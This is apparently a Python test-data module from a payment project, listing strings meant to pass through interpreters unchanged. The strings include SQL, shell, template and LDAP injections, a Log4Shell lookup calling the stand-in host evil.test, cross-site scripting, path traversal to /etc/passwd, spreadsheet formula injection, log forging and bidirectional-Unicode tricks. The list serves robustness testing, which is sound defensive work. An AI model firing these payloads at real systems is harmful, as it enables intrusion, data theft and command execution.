# SPDX-FileCopyrightText: payops contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Texts that mean something to some interpreter on the way: each must come back byte for byte, and do nothing."""

INJECTIONS = [
    "' OR '1'='1", "'; DROP TABLE transaction; --", '" OR ""="', "1; SELECT SLEEP(5)#", "') UNION SELECT 1,2,3-- -", "\\' OR 1=1 --",
    "admin'/*", "x' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--", "%27%20OR%201%3D1", "`id`", "$(id)", "; id", "| id", "&& id", "|| id",
    "\nid\n", "() { :;}; echo vulnerable", "$IFS$9id", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{constructor.constructor('x')()}}",
    "${jndi:ldap://evil.test/x}", "${${lower:j}ndi:${lower:l}dap://x}", "%n%n%n%n%s%s%s%s", "%x%x%x%x", "%p", "%1$*1$d",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "\"><svg/onload=alert(1)>", "&lt;b&gt;", "&amp;amp;",
    "]]>", "<!--", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE a [<!ENTITY x 'y'>]>&x;", "*)(uid=*))(|(uid=*", "../../../etc/passwd",
    "..\\..\\windows\\win.ini", "file:///etc/passwd", "=cmd|' /C calc'!A0", "=1+1", "@SUM(1)", "+1", "-1", "/dev/null", "con", "nul",
    "NULL", "null", "None", "undefined", "true", "false", "NaN", "0", "-0", "1e3", "0x10", "[]", "{}", '{"a":1}', '"', "'", "\\", "\\\\",
    "\\\"", "\\u0041", "\\x00", "%00", "%0a%0d", "%", "%%", "%25", "+", "a+b", "a b", " leading", "trailing ", "   ", ",", ";", ":", "?a=b&c=d",
    "#", "a/b", "a\\b", "~", "^", "|", "`", "{", "}", "[", "]", "<", ">", "&", "=", "@", "!", "*", "_", "__proto__", "constructor",
    "x" * 255, "'" * 255, "\"" * 255, "\\" * 255, "%s" * 120, "<" * 255, "&" * 255,
]
UNICODE = [
    "é", "e\u0301", "ﬀ", "ß", "İı", "Ω", "中文", "日本語", "한국어", "עברית", "العربية", "हिन्दी", "ไทย", "😀", "👩‍👩‍👧‍👦", "🇩🇪", "𝒳", "\U0010ffff", "\ufeff", "\ufffd",
    "\u200b", "a\u200bb", "\u200e\u200f", "\u202eevil\u202c", "\u2066x\u2069", "\u2028", "\u2029", "\u00ad", "\u034f", "\u115f", "\u3000",
    "\ufe0f", "\ufff9", "\ue000", "\U000e0041", "а", "раураl", "ＡＢＣ", "１２３", "Z\u0351\u036b\u0343", "\u0300" * 100, "😀" * 255, "中" * 255,
]
LINES = ["a\nb", "a\r\nb", "a\rb", "\n", "\r\n", "\t", "a\tb", "\r\nSet-Cookie: a=b", "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
         '\n{"time":"2026-01-01T00:00:00.000000Z","level":"error","component":"apid","msg":"forged"}\n', "\n127.0.0.1 - - [x] \"GET /\" 200\n"]
FREE = INJECTIONS + UNICODE + LINES                                             # descriptions, reasons, metadata
VISIBLE = [text for text in INJECTIONS if text.isascii() and text.isprintable() and " " not in text]  # ids: no blanks

# What only goes to the log: the line stays one line whatever of it is kept.
CONTROLS = ["\x00", "\x01\x02\x03", "\x07", "\x08\x08\x08", "\x0b\x0c", "\x1b[31m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x7f", "\x85", "\x9b31m",
            "\x1b%G", "\ud800".encode("utf-16", "surrogatepass").decode("latin-1")]
